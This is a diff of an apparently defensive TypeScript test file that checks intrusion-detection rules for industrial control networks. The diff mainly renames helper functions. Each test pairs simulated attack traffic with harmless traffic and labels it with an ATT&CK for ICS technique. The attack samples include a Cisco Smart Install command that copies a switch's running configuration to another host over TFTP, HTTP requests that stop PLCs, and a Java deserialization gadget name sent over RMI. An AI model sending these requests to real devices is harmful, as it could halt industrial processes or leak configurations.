@@ -7,9 +7,9 @@ import * as mqtt from '#protocols/mqtt/encode'
 import * as fox from '#protocols/niagara-fox/encode'
 import * as rpc from '#protocols/rpc/encode'
 import { series } from '../attempts.ts'
-import { talk } from '../other-protocols/conversation.ts'
+import { conversation } from '../other-protocols/conversation.ts'
 import type { AlertProof, Scene } from '../proof.ts'
-import { attacker, cold, THEN, usual } from './proof.ts'
+import { attacker, THEN, usual, withoutBaseline } from './proof.ts'
 
 const text = (words: string) => new TextEncoder().encode(words)
 const device = { ip: '10.20.0.2', mac: '02:00:00:00:00:02' } as const
@@ -41,9 +41,9 @@ const connection = {
 }
 const onCip = { carriedBy: 'enip' } as const
 const opened = (at: number) =>
-  talk(onCip, [[cip.forwardOpen(connection), cip.forwardOpenReply(connection, 9)]], [], { at })
+  conversation(onCip, [[cip.forwardOpen(connection), cip.forwardOpenReply(connection, 9)]], [], { at })
 const closed = (how: Partial<Scene>) =>
-  talk(onCip, [[cip.forwardClose(connection), cip.forwardCloseReply(connection)]], [], how)
+  conversation(onCip, [[cip.forwardClose(connection), cip.forwardCloseReply(connection)]], [], how)
 
 const locked = (code: number): Scene =>
   tcp(
@@ -113,7 +113,7 @@ const debugging = (procedure: number) =>
   })
 
 export const proofs: readonly AlertProof[] = [
-  cold(
+  withoutBaseline(
     'port-mapped-by-a-controller',
     { rule: 'port-mapped', technique: 'T0883' },
     [
@@ -126,25 +126,25 @@ export const proofs: readonly AlertProof[] = [
     ],
     [usual, udp(5351, [['client', hex('00 00')]], { at: THEN, client: device, server: gateway })],
   ),
-  cold(
+  withoutBaseline(
     'connection-of-another-ended',
     { rule: 'connection-closed-by-another', technique: 'T0814' },
     [opened(0), closed({ at: THEN, client: attacker })],
     [opened(0), closed({ at: THEN })],
   ),
-  cold(
+  withoutBaseline(
     'device-locked-for-good',
     { rule: 'control-by-newcomer', technique: 'T1692.001' },
     [usual, locked(2)],
     [usual, locked(1)],
   ),
-  cold(
+  withoutBaseline(
     'station-read',
     { rule: 'program-uploaded', technique: 'T0845' },
     [station('file:^config.bog')],
     [station('file:^notes.txt')],
   ),
-  cold(
+  withoutBaseline(
     'retained-messages-cleared',
     { rule: 'retained-messages-cleared', technique: 'T0809' },
     [clearedAll],
@@ -155,31 +155,31 @@ export const proofs: readonly AlertProof[] = [
       ]),
     ],
   ),
-  cold(
+  withoutBaseline(
     'stopped-by-its-own-page',
     { rule: 'controller-stopped', technique: 'T0858' },
     [tcp(80, posted('/CPUCommands', 'PriNav=Start&Stop=1'))],
     [tcp(80, posted('/CPUCommands', 'PriNav=Start&Run=1'))],
   ),
-  cold(
+  withoutBaseline(
     'stopped-by-its-web-api',
     { rule: 'controller-stopped', technique: 'T0858' },
     [tcp(80, posted('/api/jsonrpc', changed('stop')))],
     [tcp(80, posted('/api/jsonrpc', '{"id":1,"jsonrpc":"2.0","method":"Plc.ReadOperatingMode"}'))],
   ),
-  cold(
+  withoutBaseline(
     'switch-set-up-from-afar',
     { rule: 'switch-set-up-remotely', technique: 'T0866' },
     [tcp(4786, [['client', smartInstall(8, 'copy system:running-config tftp://10.20.0.66/x')]])],
     [tcp(4786, [['client', text('GET / HTTP/1.1\r\nHost: x\r\n\r\n')]])],
   ),
-  cold(
+  withoutBaseline(
     'object-that-runs-as-code',
     { rule: 'exploit-attempted', technique: 'T0866' },
     [tcp(1099, remoteCall('org.apache.commons.collections.functors.InvokerTransformer'))],
     [tcp(1099, remoteCall('java.rmi.registry.Registry'))],
   ),
-  cold(
+  withoutBaseline(
     'debug-agent-asked',
     { rule: 'debug-agent-asked', technique: 'T0866' },
     [debugging(1)],
